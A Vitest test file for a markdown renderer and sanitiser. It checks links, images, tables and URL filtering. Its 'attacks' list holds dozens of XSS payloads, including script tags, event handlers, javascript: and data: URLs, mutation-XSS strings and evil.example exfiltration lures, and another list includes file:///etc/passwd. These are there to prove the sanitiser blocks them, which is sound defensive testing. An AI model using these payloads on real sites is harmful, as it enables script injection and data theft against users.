import { describe, expect, test } from 'vitest';
import { piecesOf } from '../src/markdown/render';
import { safeImage, safeLink } from '../src/markdown/safe-url';
import { sanitise } from '../src/markdown/sanitise';

function render(markdown: string): HTMLElement {
  const host = document.createElement('div');
  for (const piece of piecesOf(markdown)) host.append(sanitise(piece));
  return host;
}

const raw = (html: string) => {
  const host = document.createElement('div');
  host.append(sanitise(html));
  return host;
};

describe('markdown', () => {
  test.each([
    ['**b** *e* ~~d~~ `c`', 'strong, em, del, code', 4],
    ['# h', 'h2', 1],
    ['###### h', 'h6', 1],
    ['- a\n- b', 'ul > li', 2],
    ['3. a', 'ol[start="3"] > li', 1],
    ['- [x] done', 'li input[type=checkbox][checked][disabled]', 1],
    ['| a | b |\n|---|--:|\n| 1 | 2 |', '[role=region] > table td', 2],
    ['> quote', 'blockquote', 1],
    ['line\nline', 'br', 1],
    ['```ts\nlet a;\n```', 'pre[data-language=ts] > code', 1],
  ])('%j shows %s', (markdown, selector, count) => {
    expect(render(markdown).querySelectorAll(selector)).toHaveLength(count);
  });

  test('links open elsewhere and tell nothing', () => {
    const link = render('[x](https://example.com/a?b=1&c=2)').querySelector('a')!;
    expect(link.href).toBe('https://example.com/a?b=1&c=2');
    expect(link.target).toBe('_blank');
    expect(link.rel).toBe('noopener noreferrer');
  });

  test('a path leads to this host', () => {
    expect(render('[x](/reports/7)').querySelector('a')?.href).toBe(`${location.origin}/reports/7`);
    expect(render('[x](//evil.example)').querySelector('a')?.hasAttribute('href')).toBe(false);
  });

  test('an image is a link until the reader opens it', () => {
    const host = render('![A chart](https://example.com/c.png)');
    expect(host.querySelector('img')).toBeNull();
    expect(host.querySelector('a')).toMatchObject({ href: 'https://example.com/c.png', textContent: 'A chart' });
  });

  test('raw HTML is shown as text', () => {
    expect(render('a <b>bold</b> <i title="x">').textContent).toContain('<b>bold</b> <i title="x">');
  });

  test('a growing text changes its last piece only', () => {
    const text = 'One.\n\n```\ncode\n```\n\n- a\n- b';
    const whole = piecesOf(text);
    expect(piecesOf(text.slice(0, -1)).slice(0, 2)).toEqual(whole.slice(0, 2));
  });

  test('a link defined elsewhere in the text works in its own piece', () => {
    expect(render('[a][1]\n\nmore\n\n[1]: https://example.com/').querySelector('a')?.href).toBe('https://example.com/');
  });

  test('draws every cut of a text', () => {
    const text = '# T\n\n| a |\n|---|\n| `x` |\n\n1. [a](https://b.c "t")\n   ```js\n   1 < 2 && "x"\n   ```\n> **q**';
    for (let end = 0; end <= text.length; end++) expect(() => render(text.slice(0, end))).not.toThrow();
  });
});

const attacks = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="//evil.example" onclick=alert(1)>x</a>',
  '<form action="https://evil.example"><button>x</button><input type=text name=p></form>',
  '<input autofocus onfocus=alert(1)>',
  '<input type=image src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<style>@import "https://evil.example/x.css"</style>',
  '<div style="background:url(https://evil.example)">x</div>',
  '<link rel=stylesheet href=https://evil.example>',
  '<meta http-equiv=refresh content="0;url=https://evil.example">',
  '<base href=https://evil.example>',
  '<object data=https://evil.example></object><embed src=https://evil.example>',
  '<video src=https://evil.example poster=https://evil.example onloadstart=alert(1)>',
  '<template><img src=x onerror=alert(1)></template>',
  '<a id=location name=cookie class=button>x</a>',
  '[x](javascript:alert(1))',
  '[x](javascript&colon;alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](data:text/html;base64,PHNjcmlwdD4=)',
  '[x](https://a.b "onmouseover=alert(1)")',
  '[x](https://a.b/"onmouseover="alert(1))',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](https://evil.example/a.png)',
  '![x](https://evil.example/?q=secret)',
  '<javascript:alert(1)>',
  '```"><img src=x onerror=alert(1)>\ncode\n```',
  '`<img src=x onerror=alert(1)>`',
  '| <img src=x onerror=alert(1)> |\n|---|\n| <script>alert(1)</script> |',
  '[x]: javascript:alert(1)\n\n[x]',
];

const tags = 'a,blockquote,br,code,del,div,em,h2,h3,h4,h5,h6,hr,input,li,ol,p,pre,strong,table,tbody,td,th,thead,tr,ul';
const attributes = new Set(['align', 'aria-label', 'checked', 'data-language', 'disabled', 'href', 'rel', 'role', 'start', 'tabindex', 'target', 'title', 'type']);

function expectHarmless(host: HTMLElement): void {
  for (const element of host.querySelectorAll('*')) {
    expect(element.matches(tags), element.outerHTML).toBe(true);
    for (const { name } of element.attributes) expect(attributes, element.outerHTML).toContain(name);
    if (element.hasAttribute('href')) expect(element.getAttribute('href')).toMatch(/^(https?:|mailto:)/i);
    if (element.tagName === 'INPUT') expect(element.matches('[type=checkbox][disabled]')).toBe(true);
  }
}

describe('hostile text', () => {
  test.each(attacks)('as markdown: %s', attack => expectHarmless(render(attack)));
  test.each(attacks)('as HTML that came past the renderer: %s', attack => expectHarmless(raw(attack)));
});

describe('addresses in cards', () => {
  test.each(['https://a.b/', 'http://a.b/', 'http://localhost:3000/reports/1.png'])('%s may be opened', url => {
    expect(safeLink(url)).toBe(url);
  });

  test('a path is one of this host', () => expect(safeImage('/reports/1.png')).toBe('http://localhost:3000/reports/1.png'));
  test('an image may be carried in its address', () => expect(safeImage('data:image/png;base64,AA')).toBe('data:image/png;base64,AA'));

  test.each(['javascript:alert(1)', ' javascript:alert(1)', 'data:text/html,x', 'blob:x', 'file:///etc/passwd', '', 'http://', 7, null])(
    '%s may not', url => {
      expect(safeLink(url)).toBeUndefined();
      expect(safeImage(url)).toBeUndefined();
    });
  test('an image address opens no page', () => expect(safeLink('data:image/png;base64,AA')).toBeUndefined());
});
